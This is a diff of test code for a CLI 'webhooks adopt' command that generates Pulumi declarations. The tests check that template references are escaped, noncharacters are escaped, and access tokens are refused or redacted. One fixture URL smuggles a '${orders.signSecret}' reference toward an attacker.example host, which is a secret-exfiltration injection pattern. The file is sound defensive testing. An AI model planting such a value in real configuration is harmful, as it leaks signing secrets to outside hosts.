@@ -5,7 +5,8 @@ import { identifierFor, resourceNameFor, runAdopt, type AdoptOptions } from "../
 import { CliError, EXIT } from "../../src/cli/exit";
 import { memorySink } from "../../src/cli/output";
 import type { Emulator } from "../../src/emulator";
-import { allSecrets, cliEmulator, clientFor, expectGolden, normalise } from "./helpers";
+import { readAdoptYaml, readTsDeclarations, readYamlDoubleQuoted, runShellCommands } from "./consumers";
+import { TOKEN, allSecrets, cliEmulator, clientFor, expectGolden, normalise } from "./helpers";
 
 describe("webhooks adopt against the emulator", () => {
   let emulator: Emulator;
@@ -63,10 +64,10 @@ describe("webhooks adopt against the emulator", () => {
         seen.push(name, args);
       }
     };
-    runInNewContext(declaration!.typescript, { WebhookEndpoint: stub });
+    runInNewContext(declaration!.typescript!, { WebhookEndpoint: stub });
     expect(seen).toEqual([declaration!.resourceName, { webhookName: record.webhook_name, webhookUrl: record.webhook_url, adoptWebhookId: record.webhook_id }]);
     // The YAML: every value a double-quoted scalar, which YAML reads with JSON's escapes, one per line.
-    const lines = declaration!.yaml.split("\n");
+    const lines = declaration!.yaml!.split("\n");
     expect(lines).toHaveLength(7);
     const scalar = (prefix: string) => JSON.parse(lines.find((l) => l.startsWith(prefix))!.slice(prefix.length)) as unknown;
     expect(scalar("      webhookName: ")).toBe(record.webhook_name);
@@ -81,7 +82,8 @@ describe("webhooks adopt against the emulator", () => {
     const sink = memorySink();
     await runAdopt(client, sink, { ...base, ids: [1], json: true });
     const parsed = JSON.parse(sink.out) as { declarations: Record<string, unknown>[] };
-    expect(Object.keys(parsed.declarations[0]!).sort()).toEqual(["importCommand", "resourceName", "typescript", "webhookId", "webhookName", "webhookUrl", "yaml"]);
+    expect(Object.keys(parsed.declarations[0]!).sort()).toEqual(["importCommand", "refused", "resourceName", "typescript", "webhookId", "webhookName", "webhookUrl", "yaml"]);
+    expect(parsed.declarations[0]!.refused).toEqual({});
   });
 
   it("an id or a name that does not exist is a usage error (exit 2)", async () => {
@@ -102,5 +104,129 @@ describe("webhooks adopt against the emulator", () => {
     expect(identifierFor("orders")).toBe("ordersWebhook");
     expect(identifierFor("9-lives")).toBe("webhook9LivesWebhook");
     expect(identifierFor("delete")).toBe("deleteWebhook");
+  });
+});
+
+describe("webhooks adopt: names and URLs another team chose (issue 20)", () => {
+  let emulator: Emulator;
+  let client: WebhooksClient;
+  const base: AdoptOptions = { ids: [], format: "all", json: false, progress: false, secrets: [TOKEN] };
+  const ids = { orders: 0, interpolating: 0, undefinedRef: 0, dollars: 0, nonchar: 0, tokenName: 0, tokenUrl: 0, splitToken: 0 };
+
+  beforeAll(async () => {
+    emulator = await cliEmulator({ maxNameLength: 1000 });
+    const add = (name: string, url: string) => emulator.addRecord({ webhook_name: name, webhook_url: url }).webhook_id;
+    ids.orders = add("orders", "https://example.com/hooks/orders");
+    ids.interpolating = add("hook", "https://attacker.example/hook?k=${orders.signSecret}");
+    ids.undefinedRef = add("${nothing}", "https://example.com/hooks/a");
+    ids.dollars = add("a$$b$", "https://example.com/hooks/b?x=$$&y=$");
+    ids.nonchar = add("orders\uFFFE\uFDD0", "https://example.com/hooks/c");
+    ids.tokenName = add(`team ${TOKEN}`, "https://example.com/hooks/d");
+    ids.tokenUrl = add("innocent", `https://example.com/hooks/e?t=${TOKEN.toUpperCase()}`);
+    ids.splitToken = add(`${TOKEN.slice(0, 10)}\u200b${TOKEN.slice(10)}`, "https://example.com/hooks/f");
+    client = clientFor(emulator);
+  });
+  afterAll(async () => {
+    await client?.close();
+    await emulator?.close();
+  });
+
+  /** What adopt prints in one format (TypeScript, YAML or the commands alone: each parsed whole by its consumer). */
+  async function printed(selected: number[], format: AdoptOptions["format"]) {
+    const sink = memorySink();
+    const outcome = await runAdopt(client, sink, { ...base, ids: selected, format }).catch((error: unknown) => error);
+    return { out: sink.out, err: sink.err, outcome };
+  }
+
+  function serviceValues(id: number) {
+    const record = emulator.records().find((r) => r.webhook_id === id)!;
+    return { webhookName: record.webhook_name, webhookUrl: record.webhook_url, import: String(id) };
+  }
+
+  it("finding 1: every $ is doubled in the YAML, so Pulumi YAML reads no reference and yields the service's values", async () => {
+    const sink = memorySink();
+    await runAdopt(client, sink, { ...base, ids: [ids.interpolating, ids.undefinedRef, ids.dollars], format: "yaml" });
+    // The facts of pulumi-yaml's parser: `$${` is a literal `${`, `$$` a literal `$`.
+    expect(sink.out).toContain('      webhookUrl: "https://attacker.example/hook?k=$${orders.signSecret}"\n');
+    expect(sink.out).toContain('      webhookName: "$${nothing}"\n');
+    expect(sink.out).toContain('      webhookName: "a$$$$b$$"\n');
+    expect(sink.out).not.toMatch(/[^$](\$\$)*\$\{/);
+    const read = readAdoptYaml(sink.out);
+    expect(read.map(({ webhookName, webhookUrl, import: id }) => ({ webhookName, webhookUrl, import: id }))).toEqual([
+      serviceValues(ids.interpolating),
+      serviceValues(ids.undefinedRef),
+      serviceValues(ids.dollars),
+    ]);
+    expect(sink.err).toBe("");
+  });
+
+  it("finding 7: a noncharacter is written as an escape yaml.v3 reads, never raw (yaml.v3 refuses raw U+FFFE)", async () => {
+    const yaml = await printed([ids.nonchar], "yaml");
+    expect(yaml.out).not.toMatch(/[\uFFFE\uFFFF\uFDD0]/);
+    expect(yaml.out).toContain('      webhookName: "orders\\ufffe\\ufdd0"\n');
+    expect(readYamlDoubleQuoted('"orders\\ufffe\\ufdd0"')).toBe("orders\uFFFE\uFDD0");
+    expect(() => readYamlDoubleQuoted('"orders\uFFFE"')).toThrow(/refuses the raw character U\+FFFE/);
+    expect(readAdoptYaml(yaml.out).map((r) => r.webhookName)).toEqual(["orders\uFFFE\uFDD0"]);
+    // TypeScript: the same escape, read back by the compiler.
+    const typescript = await printed([ids.nonchar], "ts");
+    expect(typescript.out).toContain('  webhookName: "orders\\ufffe\\ufdd0",\n');
+    expect(readTsDeclarations(typescript.out)[0]!.properties.webhookName).toBe("orders\uFFFE\uFDD0");
+  });
+
+  it("finding 6: an endpoint whose name or URL holds the token (any case, split by a zero-width space) is not declared, with a warning naming it", async () => {
+    const sink = memorySink();
+    const refused = [ids.tokenName, ids.tokenUrl, ids.splitToken];
+    const declarations = await runAdopt(client, sink, { ...base, ids: [ids.orders, ...refused] });
+    const everything = sink.out + sink.err;
+    expect(everything.toLowerCase()).not.toContain(TOKEN.toLowerCase());
+    expect(everything.toLowerCase()).not.toContain(TOKEN.slice(10).toLowerCase());
+    for (const id of refused) {
+      expect(sink.err).toMatch(new RegExp(`warning: endpoint ${id} gets no TypeScript, Pulumi YAML, pulumi import declaration: its (name|URL) holds the access token`));
+      const declaration = declarations.find((d) => d.webhookId === id)!;
+      expect(declaration).toMatchObject({ typescript: null, yaml: null, importCommand: null });
+      expect(declaration.resourceName.toLowerCase()).not.toContain(TOKEN.slice(0, 10).toLowerCase());
+    }
+    // The one clean endpoint is declared in every format, and only it.
+    const only = [ids.orders, ...refused];
+    expect(readTsDeclarations((await printed(only, "ts")).out).map((d) => d.properties.adoptWebhookId)).toEqual([ids.orders]);
+    expect(readAdoptYaml((await printed(only, "yaml")).out).map((r) => r.import)).toEqual([String(ids.orders)]);
+    expect(runShellCommands((await printed(only, "import")).out)).toEqual([["import", "webhooks:index:WebhookEndpoint", "orders", String(ids.orders)]]);
+  });
+
+  it("finding 6: --json redacts the token from names and URLs, and says why each declaration is null", async () => {
+    const sink = memorySink();
+    await runAdopt(client, sink, { ...base, ids: [ids.tokenName, ids.tokenUrl], json: true }).catch((error: unknown) => {
+      expect((error as CliError).exitCode).toBe(EXIT.refused);
+    });
+    expect(sink.out.toLowerCase()).not.toContain(TOKEN.toLowerCase());
+    const parsed = JSON.parse(sink.out) as { declarations: { webhookName: string; webhookUrl: string; typescript: unknown; refused: Record<string, string> }[] };
+    expect(parsed.declarations.map((d) => [d.webhookName, d.webhookUrl])).toEqual([
+      ["team [REDACTED]", "https://example.com/hooks/d"],
+      ["innocent", "https://example.com/hooks/e?t=[REDACTED]"],
+    ]);
+    for (const d of parsed.declarations) {
+      expect(d.typescript).toBeNull();
+      expect(Object.keys(d.refused).sort()).toEqual(["importCommand", "typescript", "yaml"]);
+      expect(d.refused.yaml).toMatch(/access token/);
+    }
+  });
+
+  it("nothing declarable: no declaration on stdout, exit 5 (refused), the warnings say why", async () => {
+    const sink = memorySink();
+    const error = await runAdopt(client, sink, { ...base, ids: [ids.tokenName], format: "yaml" }).catch((e: unknown) => e);
+    expect(error).toBeInstanceOf(CliError);
+    expect((error as CliError).exitCode).toBe(EXIT.refused);
+    expect(sink.out).toBe("");
+    expect(sink.err).toMatch(/endpoint \d+ gets no Pulumi YAML declaration: its name holds the access token/);
+  });
+
+  it("the derived resource name never holds the token, nor does --resource-name", async () => {
+    expect(resourceNameFor(`x ${TOKEN}`, 7, [TOKEN])).toBe("webhook-7");
+    expect(resourceNameFor(TOKEN.toUpperCase(), 8, [TOKEN])).toBe("webhook-8");
+    // Only once derived: a token "tok-en" from a name "tok en".
+    expect(resourceNameFor("abcd efgh ijkl", 9, ["abcd-efgh-ijkl"])).toBe("webhook-9");
+    const error = await runAdopt(client, memorySink(), { ...base, ids: [ids.orders], resourceName: TOKEN }).catch((e: unknown) => e);
+    expect((error as CliError).exitCode).toBe(EXIT.usage);
+    expect((error as CliError).message).toMatch(/--resource-name holds the access token/);
   });
 });
